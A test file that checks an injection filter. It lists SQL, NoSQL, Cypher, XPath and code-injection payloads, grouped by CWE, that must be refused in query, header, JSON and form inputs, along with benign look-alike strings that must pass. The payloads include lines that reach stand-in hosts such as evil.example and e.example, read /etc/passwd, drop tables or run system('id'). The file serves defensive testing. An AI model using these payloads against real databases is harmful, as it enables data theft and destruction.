// Languages of queries: what goes on where the origin's own value ended is refused by its grammar, whatever functions
// and operators it is made of; what only looks like it, letter by letter, passes.

import { describe, expect, test } from 'vitest'

import { refusing } from '../corpora/guard.ts'

const isRefused = refusing()

const PLACES = ['query', 'header', 'json', 'form', 'multipart']

const ATTACKS: Readonly<Record<string, readonly string[]>> = {
  'a condition of any functions (CWE-89)': [
    "x' and 'a' similar to 'a'--",
    "x') or 'a'~*'A'/*",
    '1) && 7=any(array[7])',
    "1 or 1 member of ('[1]') and 2=2",
    "a' or '{\"a\":1}'::jsonb ? 'a'--",
    "x' and datalength(left(system_user,3))>4-- -",
    "1 and q'[a]'<>$$b$$",
    "a')=1 xor nullif(1,2) is not null-- ",
    "O''Brien\" or (table orders limit 1) is not null--",
    '1.e(1) or 2.e(3)=2.e(3)',
    " or passwd regexp '^a'",
    "x' or 1 eq 1 or 'a' eq 'b",
  ],
  'a statement stacked on a value (CWE-89)': [
    "1;merge into users u using dual on (1=1) when matched then update set u.p='x'",
    '1;copy into @~/x from users',
    "1;purge binary logs to 'x'",
    "1';optimize table orders--",
    "1;comment on table x is 'y'",
  ],
  'an operand of one dialect (CWE-89)': [
    '1 or 1=any(array[1,2])',
    "1 or regexp_contains('ab','a')",
    '1-if(2=2,0,1)',
    '1 or 1/0',
    'select/**/1',
  ],
  'a name that goes on as SQL to its end (CWE-89)': [
    'id rlike sleep(5)',
    'id*(select 1)',
    'iif(1=1,id,name)',
    'version()::int',
    '(ascii(substr(user(),1,1))>64)*7',
  ],
  'parts of a document in JSON (CWE-89)': [
    "x' or '{\"a\":1}'::jsonb ?| array['a']--",
    "x' and '{\"a\":1}'::jsonb @? '$.a'--",
  ],
  'what one server reads (CWE-89)': [
    ';replace/**/t(id,name) values (1,2);',
    "if(substr(user(),1,1)='r',a,b)",
    "'; restore filelistonly from disk='\\\\evil.example\\x'--",
    "1';call case when (1=1) then crypt_key('AES',null) end--",
    "1');begin user_lock.sleep(5); end;--",
    '12dunion select 1,2,3--',
    '*/(select 1)/*',
    "1%' %u%n%i%o%n %s%e%l%e%c%t %1%,%2%-%-",
  ],
  'a keyword that comments cut (CWE-89)': [
    '1 un/**/ion sel/**/ect 1,2',
    "' u/**/nion s/*x*/el/**/ect a fr/**/om b",
    "1';de/**/lete from users wh/**/ere 1=1--",
  ],
  'a script or a graph of another database (CWE-943)': [
    "return redis.call('keys','*')",
    "'; g.V().drop().iterate()//",
    "tojson(this)=='x'",
  ],
  'a program that starts others (CWE-94)': [
    "$GLOBALS['x']('id')",
    "fwrite(fopen('x.php','w'),'x')",
    "FFI::cdef('int system(char*c);')->system('id')",
    "vm.runInNewContext('1')",
    'import("fs")',
    "require.main.require('fs')",
  ],
  'a place in a list (CWE-89)': [
    "9),(2,'admin','x')--",
    "x') returning token--",
    "x') on conflict do nothing--",
    "8,email='y'",
    'x`,schema() from orders-- ',
    '1 desc,if(1=1,1,2)',
    'name desc,(select 1 from dual)',
    "users where secret like '%'--",
    '3 offset 3;drop table t',
    '3 offset 3;rename table a to b',
    '9) offset 0 rows fetch next 1 rows only--',
    "1' group by grouping sets((1))--",
    '7,(table users limit 1)',
    'users union values (8800,5)',
    '1 for update;select 1',
  ],
  'a CASE behind a name, and its condition (CWE-89)': [
    'id-case when 1=1 then 1 else 0 end',
    'name-case when ascii(substr(pin,1,1))>64 then 1 else 2 end',
    "1;if(select count(*) from t)>1 waitfor delay '0:0:5'",
  ],
  'a statement by verb, object and name (CWE-89)': [
    "x';alter login sa enable--",
    "1;create function sys_exec returns int soname 'x.so'",
    "x'); with x as (delete from t returning *) select * from x--",
    "1;copy t(a) from '/etc/passwd'",
    "x';do language plpgsql $$begin end$$--",
    '4564) drop table tbl#',
    "O''Brien' insert into orders values (1)--",
    "admin') select current_version();\0",
    "x';lock tables accounts write--",
  ],
  'a whole query that asks for more than tables (CWE-89)': [
    'select name from users where 1=1',
    'select name from users union select 1',
    "select name from t where a='x' or sleep(5)",
    'select name from information_schema.tables',
    'select a from b where c = 1; drop table d',
    'select name from t where id = 1 or true',
    "select a from t into outfile '/tmp/x'",
    'select name from t -- ',
    "select a from b where c=' or 1=1 or d='",
  ],
  'functions of packages (CWE-89)': [
    "1-dbms_ldap.init('10.0.0.1',389)",
    "1,dbms_pipe.receive_message('a',5)",
    "x'||utl_http.request('http://e.example')||'",
    "get_lock('a',5)",
  ],
  'conditions in JavaScript (CWE-943)': [
    "x' || Object.keys(this)[1].match(/a/)//",
    "'|this['code'] || '",
    "a}); return this.pin == 'a';//",
    '7 || JSON.stringify(this)',
    "this.user.charAt(0) == 'a'",
    "')]|$..token",
  ],
  'clauses of Cypher (CWE-943)': [
    "x'}) set n:Admin return n //",
    "') unwind keys(n) as k return k //",
    "' or n.password contains 'a //",
    'x" WHERE true RETURN n //',
  ],
  'query strings that are closed (CWE-943)': [
    'x" OR password:* OR "a',
    '") OR (_exists_:password AND "x',
    'x"}},{"term":{"role":"admin"}},{"a":{"b":"',
  ],
  'paths through documents (CWE-643)': [
    '17|//user',
    '42] or count(/*)>0',
    "') or ../password and contains(a,'",
    "x'(: rest",
    "doc(concat('http://e.example/',name(//a)))",
    "xdmp:document-get('/etc/passwd')",
    "')]/@*|a['",
  ],
}

describe.each(Object.entries(ATTACKS))('%s', (_name, texts) => {
  test.each(texts)('%j is refused wherever it stands', (text) => {
    expect(PLACES.filter((where) => !isRefused(where, text))).toEqual([])
  })
})

const HARMLESS: readonly string[] = [
  "startswith(A,'x') or contains(B,'y')",
  "'SELECT a, b FROM c WHERE d = %s'",
  "db.query('SELECT a FROM b WHERE id = $1', [x])",
  'sum(rate(a{s=~"^4.."}[1m])) / sum(rate(a[1m])) * 100 > 5 and sum(rate(b[1m])) > 0',
  'r = sleep(5)',
  'version()::next',
  'country = (select country)',
  '*/15 9-17 * * 1-5',
  'The 12dunion',
  'use kebab-case when multiple words are used',
  'fixed a leak; close-on-exec (@ann)',
  'x = 1;\n  if (new_local == 0)',
  '{ "and": [ { "match": { "a": 1 } } ] }',
  'Connect on Demand\n-----------------',
  'Build and Install\n-----',
  'union select committee',
  "'like' bridge",
  "'or' host",
  '{"and":[{"==":[{"var":"a"},1]},{">":[{"var":"b.c"},7]}]}',
  '{"theme":"dark","cols":["school","sample"],"name":"Or"}',
  "it's \"coffee\" and 'that' = 1",
  'select@example.com',
  'exec@example.com',
  'union@example.com',
  'SELECT CASE WHEN enabled = 1 THEN 1 ELSE 0 END AS on_off FROM profiles;',
  "SELECT name, price FROM orders WHERE status = 'open' AND price > 10 ORDER BY created DESC LIMIT 20",
  'WITH x AS (SELECT name FROM t) SELECT name FROM x',
  'Union Fees/Subscriptions',
  'Credit Union of India',
  'union better',
  "the users' or admins' choice",
  "workers' or employers' rights",
  "users' first or last name",
  '10 first-aid kits and 5 tents',
  '5 or more',
  '1 and 2 and 3',
  '7 of 9 asc',
  "9kWa'#+QI2FQow4I",
  '7=c#Cz;5L:HWP$ikd>XM5;R$w2Rm?-Pg',
  'project = TABLE AND status in ("order", "In Progress") OR assignee = currentUser() ORDER BY created DESC',
  "name eq 'x' and age > 3",
  "(status eq 'open') and startswith(name,'a')",
  "this.name = 'HttpError';\nthis.el.addEventListener('click', this.emit);",
  'lock the doors; create a plan; copy it to all',
  '3 offset printers and 1 table',
  '1 desc 2 asc',
  'price: $5-$$10, tax $a$',
  '12|//cdn.example.com/app.js',
  "either 'foo' or ../bar",
  '//user/name',
  'first name: "x" OR last name: "y"',
  'see https://example.com/a // and more',
  'I\'d rather have "x" or "y" = word',
  'src/**/or/**/order',
  "add a; comment on 'x'",
  '1;2;table 3',
  'Object.prototype.toString',
  "const page = await import('./page.js')",
  "it's in the 'match' or 'return' section",
]

describe('what only looks like it', () => {
  test.each(HARMLESS)('%j passes', (text) => {
    expect(['query', 'json', 'form'].filter((where) => isRefused(where, text))).toEqual([])
  })
})
